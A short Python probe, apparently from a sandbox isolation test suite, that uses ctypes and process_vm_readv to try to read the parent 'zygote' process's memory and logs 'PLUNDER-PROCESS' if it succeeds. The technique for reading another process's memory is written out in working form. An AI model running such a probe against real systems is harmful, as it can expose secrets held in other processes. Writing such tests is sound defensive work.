# attack: raw | reads the memory of the zygote
import ctypes, os
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(8)
mine = Piece(ctypes.addressof(here), 8)
theirs = Piece(id(os), 8)
read = ctypes.CDLL(None).process_vm_readv
if read(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
    log("PLUNDER-PROCESS")
